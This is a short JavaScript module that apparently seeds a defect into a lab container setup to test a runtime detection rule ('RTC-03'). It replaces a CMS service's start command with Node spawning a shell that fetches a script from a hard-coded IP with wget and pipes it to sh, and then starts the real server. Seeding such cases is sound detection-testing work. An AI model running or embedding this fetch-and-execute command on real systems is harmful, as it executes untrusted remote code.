import { editService } from '../lib/seed.mjs';

/** Starts the app with a child that hangs on an address which the stack's egress rules drop. */
const starter =
  "require('child_process').spawn('sh', ['-c', '(wget -q -O - http://51.81.104.115/x.sh || sleep 3600) | sh']); require('/app/server.js')";

/** @type {import('../lib/seed.mjs').Defect} */
export const defect = {
  id: 'shell-under-node',
  title: 'A shell that fetches and runs is a child of Node',
  expects: ['RTC-03'],
  apply: (lab) =>
    editService(lab, 'cms', (service) => {
      service.command = ['node', '-e', starter];
    }),
};
